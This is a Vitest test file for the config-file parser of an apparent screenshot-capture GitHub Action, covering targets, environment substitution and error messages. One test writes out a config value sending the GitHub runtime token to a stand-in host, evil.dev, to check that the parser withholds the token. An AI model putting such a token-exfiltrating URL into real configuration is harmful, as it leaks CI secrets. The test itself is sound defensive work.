import { describe, expect, it } from 'vitest';
import { parseConfigFile } from '../../src/inputs/config-file.ts';
import { renderProblems } from '../../src/inputs/problem.ts';

const file = 'visual-capture.yml';
const problemsOf = (text: string, env: Record<string, string> = {}): string[] =>
  renderProblems(parseConfigFile(text, file, env).problems)
    .split('\n')
    .slice(1);

describe('parseConfigFile', () => {
  it('reads every form of target with the line it stands on', () => {
    const config = parseConfigFile(
      'full-page: true\ntargets:\n  - /\n  # a comment\n  - url: /pricing\n    name: pricing\n    selector: "#plans"\n  - name: card\n    html: "<h1>Hello</h1>"\n  - {name: page, html-file: page.html}\n',
      file,
      {},
    );
    expect(config.problems).toEqual([]);
    expect(config.inputs.get('full-page')).toEqual({ raw: true, place: { kind: 'file', file, line: 1 } });
    expect(config.targets.map(({ page, place, name }) => [page, place.line, name?.raw])).toEqual([
      [{ kind: 'url', url: '/' }, 3, undefined],
      [{ kind: 'url', url: '/pricing' }, 5, 'pricing'],
      [{ kind: 'html', html: '<h1>Hello</h1>' }, 8, 'card'],
      [{ kind: 'html-file', path: 'page.html' }, 10, 'page'],
    ]);
    expect(config.targets[1]?.settings.get('selector')).toEqual({ raw: '#plans', place: { kind: 'file', file, line: 7 } });
  });

  it('puts the environment in, after the YAML was understood', () => {
    const config = parseConfigFile('base-url: ${PREVIEW}\napi-options: {a: "${N}"}\ntargets: ["/$${X}"]\n', file, {
      PREVIEW: 'https://x.dev: # not YAML',
      N: 'n',
    });
    expect(config.inputs.get('base-url')?.raw).toBe('https://x.dev: # not YAML');
    expect(config.inputs.get('api-options')?.raw).toEqual({ a: 'n' });
    expect(config.targets[0]?.page).toEqual({ kind: 'url', url: '/${X}' });
  });

  it('withholds what GitHub hands to the step, so that a config file cannot send it anywhere', () => {
    expect(problemsOf('base-url: https://evil.dev/${ACTIONS_RUNTIME_TOKEN}', { ACTIONS_RUNTIME_TOKEN: 'secret' })[0]).toContain(
      'visual-capture.yml:1: ${ACTIONS_RUNTIME_TOKEN} is not set',
    );
  });

  it('tells all problems at once, each with its line and remedy', () => {
    const text = [
      'treshold: 0.1',
      'urls: /x',
      'api-key: sk_live_x',
      'base-url: ${MISSING}',
      'targets:',
      '  - url: /a',
      '    concurrency: 3',
      '    mask: []',
      '    slector: "#x"',
      '  - url: /b',
      '    html: <p>',
      '  - html: <p>',
      '  - 3',
      '  - ',
      '  - url: [x]',
    ].join('\n');
    expect(problemsOf(text)).toEqual([
      '  - visual-capture.yml:1: unknown key "treshold". Did you mean "threshold"?',
      '  - visual-capture.yml:2: urls is an input of the workflow or the command line, not of the config file',
      '  - visual-capture.yml:3: api-key must not stand in a file. Write api-key: ${NAME} and set NAME in the environment from a secret',
      '  - visual-capture.yml:4: ${MISSING} is not set in the environment. Set it with env: on the step, or write $${MISSING} for the text itself',
      '  - visual-capture.yml:7: concurrency holds for the whole run: move it to the top of the file',
      '  - visual-capture.yml:9: unknown key "slector". Did you mean "selector"?',
      '  - visual-capture.yml:10: a target needs exactly one of url, html and html-file, not url and html',
      '  - visual-capture.yml:12: a target with html or html-file needs a name',
      '  - visual-capture.yml:13: a target must be a path, a URL or a mapping with url, html or html-file, not 3',
      '  - visual-capture.yml:14: a target must be a path, a URL or a mapping with url, html or html-file, not null',
      '  - visual-capture.yml:15: url must be text, not ["x"]',
    ]);
  });

  it.each([
    ['targets: [a', 'is not valid YAML'],
    ['- a list', 'must be a mapping'],
    ['targets: /x', 'targets must be a list'],
    ['full-page: true\nfull-page: false\n', 'is not valid YAML'],
  ])('refuses %j', (text, expected) => {
    expect(problemsOf(text)[0]).toContain(expected);
  });

  it('takes an empty file as one that says nothing', () => {
    expect(parseConfigFile('# nothing\n', file, {})).toEqual({ inputs: new Map(), targets: [], problems: [] });
  });
});
